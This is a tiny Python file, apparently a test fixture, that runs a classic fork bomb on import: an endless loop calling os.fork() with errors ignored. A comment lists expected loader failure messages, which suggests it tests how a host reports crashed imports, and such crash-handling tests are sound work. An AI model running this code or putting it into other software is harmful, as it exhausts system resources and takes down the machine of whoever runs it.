"""A classic fork bomb at import: every process forks for ever."""
# says: did not finish loading|died from|exited with
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
